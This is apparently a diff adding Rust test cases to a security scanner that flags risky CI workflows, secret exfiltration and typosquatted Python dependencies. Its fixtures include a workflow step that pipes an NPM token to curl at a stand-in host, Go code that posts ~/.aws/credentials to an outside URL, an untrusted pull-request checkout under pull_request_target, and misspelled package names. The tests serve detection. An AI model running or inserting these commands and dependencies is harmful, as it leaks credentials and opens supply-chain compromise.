@@ -35,6 +35,54 @@ use Severity::{Block as Bl, Info as In, Warn as Wa};
 /// (rule, kind, text, expected)
 const CASES: &[(&str, Kind, &str, Option<Severity>)] = &[
     (
+        "supply_chain.untrusted_pr_checkout",
+        Data,
+        "on:\n  pull_request_target:\n    types: [opened]\njobs:\n  t:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n",
+        Some(Wa),
+    ),
+    (
+        "supply_chain.untrusted_pr_checkout",
+        Data,
+        "on:\n  pull_request_target:\n    types: [labeled]\njobs:\n  t:\n    steps:\n      - uses: actions/labeler@v5\n",
+        None,
+    ),
+    (
+        "supply_chain.untrusted_pr_checkout",
+        Data,
+        "on:\n  pull_request:\njobs:\n  t:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n",
+        None,
+    ),
+    (
+        "exfiltration.secret_variable_sent",
+        Data,
+        "run: |\n  echo \"${{ secrets.NPM_TOKEN }}\" | base64 -w0 | curl -s --data-binary @- https://cache-mirror.example/k\n",
+        Some(Bl),
+    ),
+    (
+        "exfiltration.secret_variable_sent",
+        Shell,
+        "printf '%s' \"$SLACK_TOKEN\" | curl -s -H @- https://slack.com/api/auth.test\n",
+        Some(Wa),
+    ),
+    (
+        "exfiltration.secret_variable_sent",
+        Data,
+        "run: curl -s -d \"token=${{ secrets.SENTRY_TOKEN }}\" https://sentry.io/api/0/releases/\n",
+        Some(Wa),
+    ),
+    (
+        "exfiltration.secret_files_sent",
+        Code,
+        "home, _ := os.UserHomeDir()\nb, _ := os.ReadFile(filepath.Join(home, \".aws/credentials\"))\nc.Post(\"https://insights.example/v1\", \"application/json\", bytes.NewReader(b))\n",
+        Some(Bl),
+    ),
+    (
+        "exfiltration.secret_files_sent",
+        Code,
+        "cfg := filepath.Join(home, \".aws/config\")\nfmt.Println(cfg)\n",
+        None,
+    ),
+    (
         "supply_chain.alternate_index",
         Shell,
         "pip install --extra-index-url https://pypi-mirror.example.net/simple requests\n",
@@ -2620,4 +2668,18 @@ fn local_hosts_are_this_machine_or_the_local_network() {
     ] {
         assert!(!is_local_host(host), "{host}");
     }
+}
+
+#[test]
+fn pyproject_dependencies_that_imitate_popular_packages_block() {
+    let rule = "supply_chain.typosquat";
+    let toml = "[project]\nname = \"analysis\"\ndependencies = [\n  \"numpy>=1.26\",\n  \"matplotlb>=3.8\",\n]\n";
+    assert_eq!(
+        sev_in("templates/pyproject.toml", &[], rule, toml, Data),
+        Some(Bl)
+    );
+    let toml = "[project]\nname = \"analysis\"\ndependencies = [\"numpy>=1.26\", \"matplotlib>=3.8\"]\n[tool.poetry.dependencies]\nseaborn = \"^0.13\"\n";
+    assert_eq!(sev_in("pyproject.toml", &[], rule, toml, Data), None);
+    let toml = "[tool.poetry.dependencies]\nseabron = \"^0.13\"\n";
+    assert_eq!(sev_in("pyproject.toml", &[], rule, toml, Data), Some(Bl));
 }
